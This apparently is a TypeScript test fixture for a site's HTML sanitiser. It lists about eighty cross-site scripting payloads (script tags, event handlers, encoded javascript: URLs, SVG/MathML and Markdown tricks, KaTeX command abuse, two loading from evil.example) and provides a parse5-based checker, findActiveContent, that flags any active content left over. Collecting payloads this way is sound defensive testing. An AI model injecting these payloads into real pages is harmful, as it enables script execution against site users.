import { parseFragment } from "parse5";

/**
 * Cross-site scripting payloads for everything users write that the site shows as HTML (article bodies and titles,
 * comments, single pages). Each must come back inert: see `findActiveContent` in ./inert-html.ts.
 * Sources of the tricks: script and event handlers, dangerous URL schemes (also entity-encoded or split by
 * whitespace), SVG and MathML namespace confusion, Markdown link and image syntax, broken and nested tags, CSS
 * expressions, frames and plugins, forms, meta refresh and base href.
 */
export const xssPayloads: readonly string[] = [
  // script elements
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script\n>alert(1)</script\n>`,
  `<<script>alert(1);//<</script>`,
  // event handlers
  `<img src=x onerror=alert(1)>`,
  `<img src="x" ONERROR="alert(1)">`,
  `<img/src=x/onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<input autofocus onfocus=alert(1)>`,
  `<a href="/ok" onclick="alert(1)">click</a>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  // dangerous schemes in links
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="  javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="javascript&#58;alert(1)">x</a>`,
  // Markdown link and image tricks
  `[click](javascript:alert(1))`,
  `[click](JAVASCRIPT:alert(1))`,
  `[click](&#106;avascript:alert(1))`,
  `[click]( javascript:alert(1) "title")`,
  `[click](<javascript:alert(1)>)`,
  `![img](javascript:alert(1))`,
  `![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![img](x" onerror="alert(1))`,
  `[ref]\n\n[ref]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `[a](data:text/html,<script>alert(1)</script>)`,
  "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
  // SVG and MathML
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  // styles
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="width: expression(alert(1))">x</div>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
  // frames, plugins, forms, meta, base
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input type="image" src="x" formaction="javascript:alert(1)">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<link rel="stylesheet" href="javascript:alert(1)">`,
  // broken and nested markup
  `<img """><script>alert(1)</script>">`,
  `<a href="/ok"<img src=x onerror=alert(1)>`,
  `<div><p>unclosed <b><i onclick="alert(1)">x`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<template><script>alert(1)</script></template>`,
  `<textarea></textarea><script>alert(1)</script>`,
  `<title></title><img src=x onerror=alert(1)>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<a href="https://ok.example" target="_top" rel="opener">x</a>`,
  // math input that tries to reach KaTeX's trusted commands
  `$\\href{javascript:alert(1)}{x}$`,
  `$$\\url{javascript:alert(1)}$$`,
  `$\\htmlData{onclick=alert(1)}{x}$`,
  `$\\includegraphics{javascript:alert(1)}$`,
];

/** Elements that run code, load documents or submit data; none may appear in rendered user content. */
const activeElements = new Set([
  "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button", "textarea", "select", "base", "meta",
  "link", "style", "template", "portal", "noscript",
]);
/** Attributes holding a URL that a browser follows or loads. */
const urlAttributes = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "srcset", "ping"]);

/** A URL as a browser reads it: entities are already decoded by the parser; control characters and spaces go. */
function schemeOf(value: string): string {
  // eslint-disable-next-line no-control-regex -- control characters are what it strips
  const compact = value.replace(/[\u0000-\u0020\u007f-\u009f]+/g, "").toLowerCase();
  const match = /^([a-z][a-z0-9+.-]*):/.exec(compact);
  return match ? match[1] : "";
}

interface HtmlNode {
  nodeName: string;
  tagName?: string;
  attrs?: Array<{ name: string; value: string; prefix?: string }>;
  childNodes?: HtmlNode[];
  content?: HtmlNode;
}

/**
 * What would be live in this HTML once a browser parsed it as the body of a page (parse5 parses as browsers do):
 * active elements, event attributes, links or sources with a scheme other than http(s)/mailto, `srcdoc`, and
 * styles with `expression`, `url(` or positioning. Empty means inert.
 */
export function findActiveContent(html: string): string[] {
  const problems: string[] = [];
  const walk = (node: HtmlNode) => {
    if (node.tagName) {
      if (activeElements.has(node.tagName)) problems.push(`<${node.tagName}>`);
      for (const attr of node.attrs ?? []) {
        const name = (attr.prefix ? `${attr.prefix}:${attr.name}` : attr.name).toLowerCase();
        if (name.startsWith("on")) problems.push(`${node.tagName}[${name}]`);
        if (name === "srcdoc" || name === "formaction") problems.push(`${node.tagName}[${name}]`);
        if (urlAttributes.has(name) || name.endsWith(":href")) {
          const scheme = schemeOf(attr.value);
          if (scheme && !["http", "https", "mailto"].includes(scheme)) problems.push(`${node.tagName}[${name}=${attr.value}]`);
        }
        if (name === "style" && /expression|url\s*\(|position|javascript|behavior|@import/i.test(attr.value)) problems.push(`${node.tagName}[style=${attr.value}]`);
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content);
  };
  walk(parseFragment(html));
  return problems;
}
